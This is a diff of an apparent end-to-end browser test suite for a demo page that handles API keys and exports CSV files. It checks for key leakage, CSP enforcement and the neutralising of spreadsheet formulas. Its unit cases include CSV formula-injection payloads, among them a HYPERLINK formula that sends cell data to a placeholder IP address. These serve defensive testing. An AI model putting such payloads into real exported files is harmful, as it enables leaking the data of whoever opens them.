@@ -2,12 +2,14 @@
 //
 //   node tests/e2e/demo.test.mjs chromium|firefox
 //
-// Needs DEMO_URL and API_URL (a sandbox started with --test-control); `cargo xtask test` sets
-// them. Screenshots of each main state go to target/e2e/. Prints one line per test and a
-// closing `test result:` line in cargo's format.
+// Needs DEMO_URL and API_URL (a sandbox started with --test-control and, for the proxy test,
+// --upstream); `cargo xtask test` sets them. Screenshots of each main state go to target/e2e/.
+// Prints one line per test and a closing `test result:` line in cargo's format. E2E_ONLY=<text>
+// runs only the tests whose name contains it (while working on them; xtask never sets it).
 
 import { mkdirSync, readFileSync, rmSync } from "node:fs";
-import { dirname, join } from "node:path";
+import { createServer } from "node:http";
+import { dirname, extname, join } from "node:path";
 import { fileURLToPath } from "node:url";
 import { setTimeout as sleep } from "node:timers/promises";
 import assert from "node:assert/strict";
@@ -27,6 +29,14 @@ const DOWNLOADS = join(OUT, `downloads-${BROWSER}`);
 mkdirSync(OUT, { recursive: true });
 rmSync(DOWNLOADS, { recursive: true, force: true });
 
+/** One of the page's own modules, loaded in Node (they hold no DOM code). */
+async function pageModule(name) {
+  const source = readFileSync(join(ROOT, "www", name), "utf8");
+  return import(`data:text/javascript,${encodeURIComponent(source)}`);
+}
+const { spreadsheetSafe, startsLikeFormula } = await pageModule("spreadsheet.js");
+const { parseCsv } = await pageModule("csv.js");
+
 // ---- The sandbox ----------------------------------------------------------------------------
 
 async function json(url, init) {
@@ -35,19 +45,18 @@ async function json(url, init) {
   return response.json();
 }
 
+const postJson = (url, body) =>
+  json(url, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
+
 /** A fresh test session of `account`: its key (a canary: it must never show up) and counters. */
 async function session(account, overrides = {}) {
-  const { key, session: id } = await json(`${API}/__sandbox/keys`, {
-    method: "POST",
-    headers: { "content-type": "application/json" },
-    body: JSON.stringify({ account, ...overrides }),
-  });
-  const keys = [key];
+  const { key, session: id } = await postJson(`${API}/__sandbox/keys`, { account, ...overrides });
+  canaries.add(key);
   return {
     key,
-    keys,
     report: () => json(`${API}/__sandbox/sessions/${id}`),
     count: async (route) => (await json(`${API}/__sandbox/sessions/${id}`)).requests[route] ?? 0,
+    faults: (faults) => postJson(`${API}/__sandbox/faults`, { session: id, faults }),
   };
 }
 
@@ -56,21 +65,39 @@ async function apiUser(key) {
   return json(`${API}/user`, { headers: { authorization: `Bearer ${key}` } });
 }
 
-const cspReports = () => json(`${DEMO}/__sandbox/csp-reports`);
+/** An export fetched directly (not through the page): the API's exact bytes. */
+async function apiExport(key, kind) {
+  const headers = { authorization: `Bearer ${key}`, "content-type": "application/json" };
+  const id = await json(`${API}/file/${kind}`, { method: "POST", headers });
+  for (let attempt = 0; attempt < 100; attempt += 1) {
+    const response = await fetch(`${API}/file/link/${id}`, { headers });
+    if (response.ok) return Buffer.from(await response.arrayBuffer());
+    await sleep(100);
+  }
+  throw new Error(`the ${kind} export never became ready`);
+}
+
+const cspReports = async () => (await json(`${DEMO}/__sandbox/csp-reports`)).reports;
+const proxyRequests = () => json(`${DEMO}/__sandbox/proxy-requests`);
+
+/** Cells of `text` (RFC 4180), every row. */
+const cells = (text) => parseCsv(text).rows;
 
 // ---- The runner ------------------------------------------------------------------------------
 
 const tests = [];
 const test = (name, body) => tests.push({ name, body });
 
-const browser = await (BROWSER === "chromium" ? launchChromium : launchFirefox)({ downloads: DOWNLOADS });
 const canaries = new Set();
+const browser = await (BROWSER === "chromium" ? launchChromium : launchFirefox)({ downloads: DOWNLOADS });
 const shot = (state) => browser.screenshot(join(OUT, `${BROWSER}-${state}.png`));
+
+const ready = () => browser.waitFor(() => document.documentElement.hasAttribute("data-ready"), undefined, 15000, "the page to start");
 
 /** Opens the demo page and waits until its module is ready. */
 async function open() {
   await browser.goto(DEMO);
-  await browser.waitFor(() => document.documentElement.hasAttribute("data-ready"), undefined, 15000, "the page to start");
+  await ready();
 }
 
 /** Pastes `text` into the key field and fetches the record; waits for the record or an error. */
@@ -85,7 +112,20 @@ async function fetchRecord(text) {
   );
 }
 
+/** Runs an export of `kind` from the page and waits for its result. */
+async function exportFromPage(kind) {
+  await browser.click(`[data-export="${kind}"]`);
+  await browser.waitShown("#export-result", 15000);
+}
+
 const text = (selector) => browser.evaluate((s) => document.querySelector(s)?.textContent ?? null, selector);
+const shown = (selector) =>
+  browser.evaluate((s) => {
+    const element = document.querySelector(s);
+    return element !== null && element.getClientRects().length > 0;
+  }, selector);
+const hrefs = () =>
+  browser.evaluate(() => ["#csv-download", "#csv-download-raw"].map((s) => document.querySelector(s)?.getAttribute("href") ?? null));
 
 /** Everything the page could leak the key into, read from the page. */
 const pageState = () =>
@@ -98,11 +138,61 @@ const pageState = () =>
     body: document.body.innerText,
   }));
 
+/** Waits (at most `ms`) until `check()` is truthy; returns its last value. */
+async function eventually(check, ms) {
+  const deadline = Date.now() + ms;
+  for (;;) {
+    const value = await check();
+    if (value || Date.now() > deadline) return value;
+    await sleep(100);
+  }
+}
+
+/** How long the absence checks wait; the positive controls show it is long enough. */
+const SETTLE_MS = 2000;
+
+/** Where the deliberate CSP violations (positive controls) point (TEST-NET-3: nothing there). */
+const PROBE_HOST = "203.0.113.9";
+
 // ---- The tests ---------------------------------------------------------------------------------
+
+test("spreadsheet.js: formula cells get a ', nothing else changes (Node unit cases)", async () => {
+  const cases = [
+    ["a,b\r\n", "a,b\r\n", 0],
+    ["=1+1,b\r\n", "'=1+1,b\r\n", 1],
+    ['x,"=HYPERLINK(""http://203.0.113.7/?leak=""&A1)"\r\n', `x,"'=HYPERLINK(""http://203.0.113.7/?leak=""&A1)"\r\n`, 1],
+    ['-5,+3,1e-3,-2+3,@SUM(1),\tx,"\rx"\n', `-5,+3,1e-3,'-2+3,'@SUM(1),'\tx,"'\rx"\n`, 4],
+    ["", "", 0],
+    ["=a", "'=a", 1],
+    ['a,\r\n,"=b",', `a,\r\n,"'=b",`, 1],
+    ['"a,=b","c\r\n=d"\r\n', '"a,=b","c\r\n=d"\r\n', 0],
+  ];
+  for (const [input, expected, neutralized] of cases) {
+    assert.deepEqual(spreadsheetSafe(input), { text: expected, neutralized }, JSON.stringify(input));
+  }
+  // Property: for random cells written as RFC 4180, the safe file parses to the same cells,
+  // each prefixed with ' exactly when it starts like a formula.
+  let seed = 42;
+  const random = (n) => {
+    seed = (seed * 1103515245 + 12345) % 2147483648;
+    return seed % n;
+  };
+  const alphabet = ["=", "+", "-", "@", "\t", "\r", "\n", '"', ",", "a", "1", ".", " ", "é"];
+  const quote = (cell) => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
+  for (let round = 0; round < 500; round += 1) {
+    const rows = Array.from({ length: 1 + random(4) }, () =>
+      Array.from({ length: 1 + random(4) }, () => Array.from({ length: 1 + random(6) }, () => alphabet[random(alphabet.length)]).join("")),
+    );
+    const input = `${rows.map((row) => row.map(quote).join(",")).join("\r\n")}\r\n`;
+    const safe = spreadsheetSafe(input);
+    const expected = rows.map((row) => row.map((cell) => (startsLikeFormula(cell) ? `'${cell}` : cell)));
+    assert.deepEqual(cells(safe.text), expected, JSON.stringify(input));
+    assert.equal(safe.neutralized, rows.flat().filter(startsLikeFormula).length);
+  }
+});
 
 test("the creator's record: profile, pool card and raw JSON, from a pasted `Bearer` key", async () => {
   const creator = await session("creator");
-  canaries.add(creator.key);
   const expected = await apiUser(creator.key);
   await open();
   await fetchRecord(`  Bearer ${creator.key}\n`);
@@ -112,7 +202,7 @@ test("the creator's record: profile, pool card and raw JSON, from a pasted `Bear
   assert.equal(await text("#record .pubkey"), expected.Pubkey);
   const raw = JSON.parse(await text("#record pre.json"));
   assert.deepEqual(raw, expected, "the raw JSON is the API's record");
-  // The pool's images come from the sandbox and load.
+  // The pool's images come from the sandbox (http: on loopback, as the chosen API) and load.
   await browser.waitFor(
     () => [...document.querySelectorAll("#record img")].length === 3 && [...document.querySelectorAll("#record img")].every((i) => i.complete && i.naturalWidth > 0),
     undefined,
@@ -128,9 +218,27 @@ test("the creator's record: profile, pool card and raw JSON, from a pasted `Bear
   await shot("creator-record");
 });
 
+test("the key's warnings are always visible; the proxy choice says where the key goes", async () => {
+  await open();
+  assert.equal(await browser.evaluate(() => document.querySelector("#api-key").value), "");
+  assert.ok(await shown("#key-warning"), "the warning is shown before any key is pasted");
+  const warning = await text("#key-warning");
+  assert.match(warning, /never expires/);
+  assert.match(warning, /revoke/);
+  assert.match(warning, /Creator Dashboard/);
+  assert.ok(await shown("#remember-help"));
+  assert.match(await text("#remember-help"), /write it to disk/);
+  assert.equal(await shown("#proxy-note"), false, "no proxy note for the sandbox");
+  await browser.click('#api-proxy-choice input[value="proxy"]');
+  assert.ok(await shown("#proxy-note"));
+  assert.match(await text("#proxy-note"), /passes through the demo server\s+process/);
+  assert.match(await text("#proxy-note"), /does not store or log it/);
+  await browser.click('input[name="api"][value="production"]');
+  assert.equal(await shown("#proxy-note"), false);
+});
+
 test("a user without a pool: the 'no pool' state, and exports are forbidden", async () => {
   const user = await session("user");
-  canaries.add(user.key);
   await open();
   await fetchRecord(user.key);
   await browser.waitShown("#record .no-pool");
@@ -157,32 +265,148 @@ test("a rejected key says so, and never shows the key", async () => {
 });
 
 for (const kind of ["emails", "supporters", "rewards"]) {
-  test(`the ${kind} export: phases, preview, row count and a downloaded CSV`, async () => {
+  test(`the ${kind} export: phases, preview, row count, and both downloads`, async () => {
     const creator = await session("creator");
-    canaries.add(creator.key);
     await open();
     await fetchRecord(creator.key);
-    await browser.click(`[data-export="${kind}"]`);
-    await browser.waitShown("#export-result", 15000);
+    await exportFromPage(kind);
     assert.equal(await text("#export-status"), "Done.");
     const rows = Number((await text("#row-count")).split(" ")[0]);
     assert.ok(rows > 0);
-    const { name, text: csv } = await browser.download("#csv-download");
-    assert.match(name, new RegExp(`^access-${kind}-\\d{4}-\\d{2}-\\d{2}\\.csv$`));
-    // The downloaded file is the API's CSV: same header as the preview, same number of rows.
+    const api = await apiExport(creator.key, kind);
+    const raw = await browser.download("#csv-download-raw");
+    assert.match(raw.name, new RegExp(`^access-${kind}-\\d{4}-\\d{2}-\\d{2}-raw\\.csv$`));
+    assert.ok(raw.bytes.equals(api), "the raw download is byte for byte the API's answer");
+    const safe = await browser.download("#csv-download");
+    assert.match(safe.name, new RegExp(`^access-${kind}-\\d{4}-\\d{2}-\\d{2}\\.csv$`));
+    // The creator's rows hold no formula: the safe file is the same bytes, and says so.
+    assert.ok(safe.bytes.equals(api));
+    assert.match(await text("#formula-count"), /No cell of this file starts like a formula/);
+    // The preview is the file's: same header, as many rows as the page counted.
     const header = await browser.evaluate(() => [...document.querySelectorAll("#csv-preview th")].map((th) => th.textContent));
-    assert.ok(csv.startsWith(header.map((h) => (/[",\n]/.test(h) ? `"${h}"` : h)).join(",")), "the file starts with the header");
-    const cells = await browser.evaluate(() => [...document.querySelectorAll("#csv-preview tbody tr")].length);
-    assert.ok(cells > 0 && cells <= 20);
-    assert.equal(await creator.count(`POST /file/${kind}`), 1);
-    assert.ok(csv.split("\n").length > rows, "each row is at least one line of the file");
+    assert.deepEqual(header, cells(raw.text)[0]);
+    assert.equal(cells(raw.text).length - 1, rows);
+    const previewRows = await browser.evaluate(() => document.querySelectorAll("#csv-preview tbody tr").length);
+    assert.equal(previewRows, Math.min(rows, 20));
+    assert.equal(await creator.count(`POST /file/${kind}`), 2); // the page's and ours
     if (kind === "supporters") await shot("export-done");
   });
 }
 
+test("a hostile export: the default download neutralises every formula, the raw one is the API's", async () => {
+  const hostile = await session("hostile");
+  await open();
+  await fetchRecord(hostile.key);
+  await exportFromPage("supporters");
+  const api = await apiExport(hostile.key, "supporters");
+  const raw = await browser.download("#csv-download-raw");
+  assert.ok(raw.bytes.equals(api), "the raw download is byte for byte the API's answer");
+  const safe = await browser.download("#csv-download");
+  const rawCells = cells(raw.text);
+  const safeCells = cells(safe.text);
+  const formulas = rawCells.flat().filter(startsLikeFormula);
+  assert.ok(formulas.length >= 4, `the hostile rows hold formulas: ${formulas}`);
+  // Every cell that would run gets a ', every other cell is untouched, and no cell of the
+  // safe file starts like a formula.
+  assert.deepEqual(
+    safeCells,
+    rawCells.map((row) => row.map((cell) => (startsLikeFormula(cell) ? `'${cell}` : cell))),
+  );
+  assert.deepEqual(safeCells.flat().filter(startsLikeFormula), []);
+  for (const payload of ["'=HYPERLINK(", "'-2+3+cmd", "'@SUM(1+1)", "'+SUM(1,2)"]) {
+    assert.ok(safe.text.includes(payload), payload);
+  }
+  assert.equal(safe.text.split("\r\n").length, raw.text.split("\r\n").length, "line ends unchanged");
+  assert.match(await text("#formula-count"), new RegExp(`^${formulas.length} cells start like a formula`));
+  // The preview marks the formula cells it shows, and only those.
+  const marked = await browser.evaluate(() =>
+    [...document.querySelectorAll("#csv-preview td")].map((td) => [td.textContent, td.hasAttribute("data-formula")]),
+  );
+  assert.ok(marked.some(([, formula]) => formula));
+  for (const [cell, formula] of marked) assert.equal(formula, startsLikeFormula(cell), cell);
+  await shot("export-hostile");
+});
+
+test("the raw download is the API's bytes even when they are not valid UTF-8", async () => {
+  const creator = await session("creator");
+  // The page's first poll of the export gets a CSV with 0xC3 0x28 in its fourth row.
+  await creator.faults([{ path: "/file/link", body: "invalid_utf8", times: 2 }]);
+  const direct = await fetch(`${API}/file/link/x`, { headers: { authorization: `Bearer ${creator.key}` } });
+  const api = Buffer.from(await direct.arrayBuffer());
+  assert.throws(() => new TextDecoder("utf-8", { fatal: true }).decode(api), "positive control: not UTF-8");
+  await open();
+  await fetchRecord(creator.key);
+  await exportFromPage("emails");
+  const raw = await browser.download("#csv-download-raw");
+  assert.ok(raw.bytes.equals(api), "the raw download is byte for byte the API's answer");
+  const safe = await browser.download("#csv-download");
+  assert.ok(safe.text.includes("Bad \uFFFD( byte"), "the text shown and made safe marks the bad bytes");
+});
+
+test("a new key, a failed fetch or 'forget key' never leaves the previous key's data on screen", async () => {
+  const creator = await session("creator");
+  const cleared = async (what) => {
+    assert.equal(await text("#record .profile"), null, `${what}: the record is gone`);
+    assert.equal(await shown("#export-result"), false, `${what}: the export result is gone`);
+    assert.equal(await browser.evaluate(() => document.querySelectorAll("#csv-preview tr").length), 0, `${what}: the preview is gone`);
+    assert.equal(await text("#row-count"), "", what);
+    assert.doesNotMatch(await text("#status"), /Record of/, what);
+    assert.deepEqual(await hrefs(), [null, null], `${what}: no download link is left`);
+  };
+  // Which download URLs the page revoked. (Reading a blob: URL from the page to see it fail
+  // would itself break the page's CSP, connect-src.)
+  const revoked = (urls) => browser.evaluate((list) => list.map((url) => (window.revokedUrls.includes(url) ? "revoked" : "kept")), urls);
+  const exported = async () => {
+    await fetchRecord(creator.key);
+    await exportFromPage("supporters");
+    const urls = await hrefs();
+    assert.ok(urls.every((url) => url?.startsWith("blob:")), `${urls}`);
+    assert.deepEqual(await revoked(urls), ["kept", "kept"]);
+    return urls;
+  };
+  await open();
+  await browser.evaluate(() => {
+    window.revokedUrls = [];
+    const revoke = URL.revokeObjectURL;
+    URL.revokeObjectURL = (url) => {
+      window.revokedUrls.push(url);
+      revoke.call(URL, url);
+    };
+  });
+
+  // 1. A fetch with the same key fails.
+  let urls = await exported();
+  await creator.faults([{ path: "/user", status: 500, times: 3 }]);
+  await browser.click("#fetch-user");
+  await browser.waitShown("#error");
+  await cleared("a failed fetch");
+  assert.equal(await text("#record"), "No record to show.");
+  assert.deepEqual(await revoked(urls), ["revoked", "revoked"]);
+
+  // 2. A wrong key is pasted: cleared at once, before any fetch; then the fetch fails.
+  urls = await exported();
+  const parts = creator.key.split(".");
+  const forged = `${parts[0]}.${parts[1]}.${"B".repeat(43)}`;
+  canaries.add(forged);
+  await browser.fill("#api-key", forged);
+  await cleared("a pasted key");
+  assert.deepEqual(await revoked(urls), ["revoked", "revoked"]);
+  await browser.click("#fetch-user");
+  await browser.waitShown("#error");
+  assert.match(await text("#error"), /rejected this key/);
+  await cleared("a rejected key");
+  assert.equal(await text("#record"), "No record to show.");
+
+  // 3. The key is forgotten.
+  urls = await exported();
+  await browser.click("#forget-key");
+  await cleared("a forgotten key");
+  assert.deepEqual(await revoked(urls), ["revoked", "revoked"]);
+  await shot("cleared");
+});
+
 test("cancelling an export mid-poll stops its requests", async () => {
   const creator = await session("creator", { export_delay_ms: 60000 });
-  canaries.add(creator.key);
   await open();
   await fetchRecord(creator.key);
   await browser.click('[data-export="supporters"]');
@@ -191,16 +415,25 @@ test("cancelling an export mid-poll stops its requests", async () => {
   await browser.click("#export-cancel");
   await browser.waitFor(() => document.querySelector("#export-status").textContent === "Export cancelled.", undefined, 5000, "the cancellation");
   const polls = await creator.count("GET /file/link");
-  await sleep(3000);
+  assert.ok(polls >= 1, `positive control: the polls before cancelling were counted (${polls})`);
+  await sleep(3000); // the page's first poll interval is 1 s, growing by half
   assert.equal(await creator.count("GET /file/link"), polls, "no poll after cancelling");
+  // Positive control: the counter still counts, so a late poll would have shown.
+  await fetch(`${API}/file/link/x`, { headers: { authorization: `Bearer ${creator.key}` } });
+  assert.equal(await creator.count("GET /file/link"), polls + 1);
   assert.equal(await browser.evaluate(() => document.querySelector("#error").hidden), true, "cancelling is not an error");
 });
 
 test("hostile strings render as inert text; unsafe URLs are neither links nor images", async () => {
   const hostile = await session("hostile");
-  canaries.add(hostile.key);
   const expected = await apiUser(hostile.key);
   await open();
+  // Positive control: a dialog the page opens is seen (and dismissed) in this browser.
+  await browser.evaluate(() => {
+    setTimeout(() => alert("positive control"), 0);
+  });
+  assert.ok(await eventually(() => browser.dialogs.includes("positive control"), 5000), `dialogs: ${browser.dialogs}`);
+  browser.dialogs.length = 0;
   await fetchRecord(hostile.key);
   await browser.waitShown("#record .pool");
   await sleep(500); // give any injected handler (onerror, onload) the chance to run
@@ -224,13 +457,164 @@ test("hostile strings render as inert text; unsafe URLs are neither links nor im
   await shot("hostile-record");
 });
 
+test("a production record's http: images stay inert (only a loopback API's are shown)", async () => {
+  // This machine cannot reach the real API: the browser answers for it with the sandbox
+  // creator's record, whose images are http: on 127.0.0.1.
+  const creator = await session("creator");
+  const record = await apiUser(creator.key);
+  assert.match(record.OwnedPool.HeroImageURL, /^http:\/\/127\.0\.0\.1:/);
+  await browser.mock("https://go-api.accessprotocol.co/user", {
+    status: 200,
+    headers: {
+      "content-type": "application/json",
+      "access-control-allow-origin": "*",
+      "access-control-allow-headers": "authorization, content-type",
+    },
+    body: JSON.stringify(record),
+  });
+  await open();
+  await browser.click('input[name="api"][value="production"]');
+  await fetchRecord(creator.key);
+  assert.equal(await text("#error strong"), null, "no error");
+  assert.equal(await text("#record .pool-name"), record.OwnedPool.Name, "the record came from the stand-in");
+  const found = await browser.evaluate(() => ({
+    images: [...document.querySelectorAll("#record img")].map((i) => i.getAttribute("src")),
+    links: [...document.querySelectorAll("#record a")].map((a) => a.getAttribute("href")),
+  }));
+  assert.deepEqual(found.images, [], "no http: image of a production record");
+  assert.deepEqual(found.links, [new URL(record.OwnedPool.Website).href], "its https: website stays a link");
+  assert.equal(await creator.count("GET /user"), 1, "the page's request never reached the sandbox");
+  await shot("production-record");
+});
+
+test("Enter pressed before the module loads puts the key nowhere", async () => {
+  const creator = await session("creator");
+  await postJson(`${DEMO}/__sandbox/pkg-delay`, { delay_ms: 6000 });
+  await browser.newPage();
+  await browser.gotoEarly(DEMO);
+  await browser.waitFor(() => document.querySelector("#api-key") !== null, undefined, 5000, "the key field");
+  const before = await pageState();
+  await browser.fill("#api-key", creator.key);
+  await browser.press("#api-key", "Enter");
+  await sleep(1000);
+  const early = await browser.evaluate(() => ({
+    ready: document.documentElement.hasAttribute("data-ready"),
+    url: location.href,
+    key: document.querySelector("#api-key").value,
+  }));
+  assert.equal(early.ready, false, "positive control: the module had not loaded yet");
+  assert.equal(early.url, before.url, "the URL is unchanged");
+  assert.equal(early.key, creator.key, "the page was not reloaded or left");
+  // Under the sandbox's CSP (form-action 'none') a submission would be blocked, but reported.
+  const reports = await cspReports();
+  assert.deepEqual(reports.filter((r) => JSON.stringify(r).includes("form-action")), [], "no form submission was even tried");
+  await ready();
+  assert.equal(await browser.url(), before.url);
+  assert.equal(await creator.count("GET /user"), 0, "nothing was sent");
+});
+
+/** A plain static server of www/ on loopback, without any header of its own; /pkg/ is 404. */
+async function staticServer() {
+  const types = { ".html": "text/html", ".js": "text/javascript", ".css": "text/css", ".svg": "image/svg+xml" };
+  const server = createServer((request, response) => {
+    const path = new URL(request.url, "http://x").pathname;
+    const file = path === "/" ? "index.html" : path.slice(1);
+    if (file.includes("..") || path.startsWith("/pkg/")) {
+      response.writeHead(404).end();
+      return;
+    }
+    try {
+      const body = readFileSync(join(ROOT, "www", file));
+      response.writeHead(200, { "content-type": types[extname(file)] ?? "application/octet-stream" }).end(body);
+    } catch {
+      response.writeHead(404).end();
+    }
+  });
+  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const close = () =>
+    new Promise((resolve) => {
+      server.close(resolve);
+      server.closeAllConnections(); // the browser may keep a connection open for a minute
+    });
+  return { url: `http://127.0.0.1:${server.address().port}/`, close };
+}
+
+test("served by any static server: the page's own CSP holds, and Enter puts the key nowhere", async () => {
+  const server = await staticServer();
+  try {
+    const canary = "eyJhbGciOiJIUzI1NiJ9.eyJzdGF0aWMiOiJzZXJ2ZXIifQ.c3RhdGljLXNlcnZlci1jYW5hcnk";
+    canaries.add(canary);
+    await browser.goto(server.url);
+    await browser.waitFor(() => document.querySelector("#api-key") !== null, undefined, 5000, "the key field");
+    await browser.fill("#api-key", canary);
+    await browser.press("#api-key", "Enter");
+    await sleep(1000);
+    assert.equal(await browser.url(), server.url, "the URL is unchanged");
+    assert.equal(await browser.evaluate(() => document.querySelector("#api-key").value), canary);
+    // The meta policy is enforced without any header: a plain http: image is refused.
+    const violation = await browser.evaluate(
+      (host) =>
+        new Promise((resolve) => {
+          document.addEventListener("securitypolicyviolation", (event) => resolve(event.violatedDirective), { once: true });
+          const image = new Image();
+          image.src = `http://${host}/probe.png`;
+          document.body.append(image);
+          setTimeout(() => resolve(null), 3000);
+        }),
+      PROBE_HOST,
+    );
+    assert.match(String(violation), /^img-src/, "the page's meta CSP is enforced");
+  } finally {
+    await server.close();
+  }
+});
+
+test("at phone width the hero is shown whole, in the light and the dark theme", async () => {
+  await open();
+  await browser.select("#demo-account", "0");
+  await browser.click("#use-demo-key");
+  await browser.click("#fetch-user");
+  await browser.waitShown("#record .pool");
+  await browser.setViewport(390, 900);
+  await browser.waitFor(() => document.querySelector("#record img.hero")?.naturalWidth > 0, undefined, 10000, "the hero");
+  assert.equal(await browser.evaluate(() => window.innerWidth), 390, "positive control: a phone-width viewport");
+  const backgrounds = [];
+  for (const scheme of ["light", "dark"]) {
+    await browser.setColorScheme(scheme);
+    const hero = await browser.evaluate(() => {
+      const img = document.querySelector("#record img.hero");
+      const box = img.getBoundingClientRect();
+      const banner = img.parentElement.getBoundingClientRect();
+      return {
+        fit: getComputedStyle(img).objectFit,
+        box: [box.left, box.top, box.right, box.bottom],
+        banner: [banner.left, banner.top, banner.right, banner.bottom],
+        ratio: box.width / box.height,
+        natural: img.naturalWidth / img.naturalHeight,
+        viewport: document.documentElement.clientWidth,
+        background: getComputedStyle(document.body).backgroundColor,
+      };
+    });
+    backgrounds.push(hero.background);
+    // Whole: either scaled to fit inside its box, or a box of the image's own proportions
+    // (within rounding), and the box itself inside the banner and the screen.
+    const whole = ["contain", "scale-down"].includes(hero.fit) || Math.abs(hero.ratio - hero.natural) / hero.natural < 0.02;
+    assert.ok(whole, `the hero is cropped: object-fit ${hero.fit}, box ${hero.ratio.toFixed(2)} vs image ${hero.natural.toFixed(2)}`);
+    assert.ok(hero.box[0] >= hero.banner[0] - 0.5 && hero.box[2] <= hero.banner[2] + 0.5, `${hero.box} in ${hero.banner}`);
+    assert.ok(hero.box[2] <= hero.viewport + 0.5, `${hero.box} on a ${hero.viewport} px screen`);
+    await shot(`phone-${scheme}`);
+  }
+  assert.notEqual(backgrounds[0], backgrounds[1], "positive control: the dark theme was applied");
+  await browser.setColorScheme("light");
+  await browser.setViewport(1100, 900);
+});
+
 test("the key is gone after a reload unless remembered in this tab; 'forget key' clears it", async () => {
   const creator = await session("creator");
-  canaries.add(creator.key);
   await open();
   await browser.fill("#api-key", creator.key);
   await browser.reload();
-  await browser.waitFor(() => document.documentElement.hasAttribute("data-ready"), undefined, 15000, "the page");
+  await ready();
   assert.equal(await browser.evaluate(() => document.querySelector("#api-key").value), "");
   let state = await pageState();
   assert.ok(!state.session.includes(creator.key) && !state.local.includes(creator.key));
@@ -238,7 +622,7 @@ test("the key is gone after a reload unless remembered in this tab; 'forget key'
   await browser.fill("#api-key", creator.key);
   await browser.click("#remember-key");
   await browser.reload();
-  await browser.waitFor(() => document.documentElement.hasAttribute("data-ready"), undefined, 15000, "the page");
+  await ready();
   assert.equal(await browser.evaluate(() => document.querySelector("#api-key").value), creator.key, "remembered in this tab");
   assert.ok(!(await pageState()).local.includes(creator.key), "never in localStorage");
 
@@ -247,22 +631,11 @@ test("the key is gone after a reload unless remembered in this tab; 'forget key'
   assert.equal(await browser.evaluate(() => document.querySelector("#api-key").value), "");
   assert.ok(!state.session.includes(creator.key), "forgotten");
   await browser.reload();
-  await browser.waitFor(() => document.documentElement.hasAttribute("data-ready"), undefined, 15000, "the page");
+  await ready();
   assert.equal(await browser.evaluate(() => document.querySelector("#api-key").value), "");
 });
 
-test("the sandbox's demo key works in one click", async () => {
-  await open();
-  await browser.select("#demo-account", "0");
-  await browser.click("#use-demo-key");
-  await browser.click("#fetch-user");
-  await browser.waitShown("#record .pool");
-  await browser.setViewport(390, 900);
-  await shot("phone");
-  await browser.setViewport(1100, 900);
-});
-
-test("production through the local proxy: the record comes via the demo server's /upstream", async () => {
+test("production through the local proxy: the page's calls go through the demo server's /upstream", async () => {
   const info = await json(`${DEMO}/sandbox.json`);
   assert.ok(info.proxyBaseUrl && info.upstream, "the demo server runs in proxy mode");
   const demoKey = info.demoKeys[0].key;
@@ -270,11 +643,16 @@ test("production through the local proxy: the record comes via the demo server's
   await open();
   await browser.waitShown("#api-proxy-choice");
   await browser.click('#api-proxy-choice input[value="proxy"]');
+  const before = await proxyRequests();
   await fetchRecord(demoKey);
   assert.equal(await text("#error strong"), null, "no error");
   const expected = await apiUser(demoKey);
   assert.equal(await text("#record .pubkey"), expected.Pubkey);
   assert.equal(await text("#record .pool-name"), expected.OwnedPool.Name);
+  const after = await proxyRequests();
+  const forwarded = (counts) => counts.forwarded["GET /user"] ?? 0;
+  assert.equal(forwarded(after) - forwarded(before), 1, "the page's GET /user went through /upstream");
+  assert.equal(after.refused, before.refused);
   await shot("proxy-record");
 });
 
@@ -286,6 +664,8 @@ test("opened from disk, the page says how to serve it", async () => {
 });
 
 if (BROWSER === "chromium") {
+  // Chromium only: it pastes into the DevTools console (outside the page's CSP), which
+  // Playwright can do and WebDriver cannot.
   test("the README's script, pasted into the page, fetches the sandbox user and runs an export", async () => {
     const readme = readFileSync(join(ROOT, "README.md"), "utf8");
     const section = readme.slice(readme.indexOf("### Try it in a page"));
@@ -307,26 +687,44 @@ if (BROWSER === "chromium") {
 }
 
 test("no CSP violation, and the key never reached the URL, the console, storage or cookies", async () => {
-  // Reports are sent asynchronously; give the browser a moment.
-  await sleep(1000);
-  const { reports } = await cspReports();
+  // Back on the demo page (the last test left it on file://), in the same tab.
+  await open();
+  await sleep(SETTLE_MS);
+  const reports = await cspReports();
   assert.deepEqual(reports, [], "CSP violations were reported");
-  if (browser.console) {
-    assert.deepEqual(browser.console.filter((line) => /Content.Security.Policy/i.test(line)), [], "CSP violations in the console");
-  }
+  // (The static-server test's deliberate violation, at 203.0.113.9, is the only one expected.)
+  const violations = browser.console.filter((line) => /Content.Security.Policy/i.test(line) && !line.includes(PROBE_HOST));
+  assert.deepEqual(violations, [], "CSP violations in the console");
   const state = await pageState();
+  assert.ok(state.url.startsWith(DEMO), `the check reads the demo page: ${state.url}`);
   for (const key of canaries) {
     assert.ok(!state.url.includes(key) && !state.cookie.includes(key) && !state.local.includes(key) && !state.session.includes(key));
-    if (browser.console) assert.ok(!browser.console.some((line) => line.includes(key)), "a key was logged to the console");
+    assert.ok(!browser.console.some((line) => line.includes(key)), "a key was logged to the console");
   }
+  // Positive controls, in this browser: a violation is reported within the time waited above,
+  // and the console is read.
+  const started = Date.now();
+  await browser.evaluate((host) => {
+    const image = new Image();
+    image.src = `http://${host}/positive-control.png`;
+    document.body.append(image);
+    console.log("positive control: console");
+  }, PROBE_HOST);
+  const reported = await eventually(async () => (await cspReports()).some((r) => JSON.stringify(r).includes(PROBE_HOST)), SETTLE_MS);
+  assert.ok(reported, `a deliberate violation was not reported within ${SETTLE_MS} ms`);
+  assert.ok(Date.now() - started <= SETTLE_MS + 500);
+  assert.ok(await eventually(() => browser.console.includes("positive control: console"), 2000), "the console is not read");
+  await fetch(`${DEMO}/__sandbox/csp-reports`, { method: "DELETE" });
 });
 
 // ---- Run ----------------------------------------------------------------------------------------
 
 console.log(`e2e: ${browser.name} ${browser.version} against ${DEMO}`);
+const only = process.env.E2E_ONLY;
 let passed = 0;
 let failed = 0;
 for (const { name, body } of tests) {
+  if (only && !name.includes(only)) continue;
   const started = Date.now();
   try {
     await body();
@@ -335,6 +733,8 @@ for (const { name, body } of tests) {
   } catch (error) {
     failed += 1;
     let message = String(error?.stack ?? error);
+    const recent = browser.console.slice(-10);
+    if (recent.length > 0) message += `\nthe browser's console, last lines:\n${recent.join("\n")}`;
     for (const key of canaries) message = message.replaceAll(key, "[CANARY KEY]");
     console.log(`test ${name} ... FAILED\n    ${message.replaceAll("\n", "\n    ")}`);
     await shot(`failed-${passed + failed}`).catch(() => {});
